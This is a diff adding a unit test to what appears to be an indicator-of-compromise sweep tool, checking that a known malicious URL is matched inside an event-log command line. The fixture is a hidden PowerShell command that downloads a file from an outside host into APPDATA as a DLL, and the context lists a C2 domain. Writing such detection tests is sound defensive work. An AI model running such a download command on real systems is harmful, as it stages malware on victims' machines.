@@ -251,3 +251,16 @@ def test_a_mail_carrying_a_shared_indicator_is_a_finding_of_its_own_incident() -
         (Kind.DOMAIN, "files.c2-updates.net"),
     }
     assert all(EXT_ID in r.detail for r in finding.reasons)
+
+
+def test_a_shared_url_inside_a_powershell_command_line_matches() -> None:
+    url = "https://docs-jpforum.com/panel/2022/list.dat"
+    command = (
+        f'powershell -w hidden -c "iwr {url.upper()[:8]}{url[8:]} -OutFile $env:APPDATA\\K.dll"'
+    )
+    rows = [event(30, "2024-06-01T00:00:00Z", 1, CommandLine=command)]
+    (finding,) = sweep([external((Kind.URL, url)), eventlog(rows)])
+    assert finding.extra["indicator_kind"] == str(Kind.URL)
+    assert finding.extra["matched_on"] == "URL in text"
+    assert finding.extra["seen"] == command
+    assert (Kind.URL, url) in {(o.kind, o.value) for o in finding.observations}
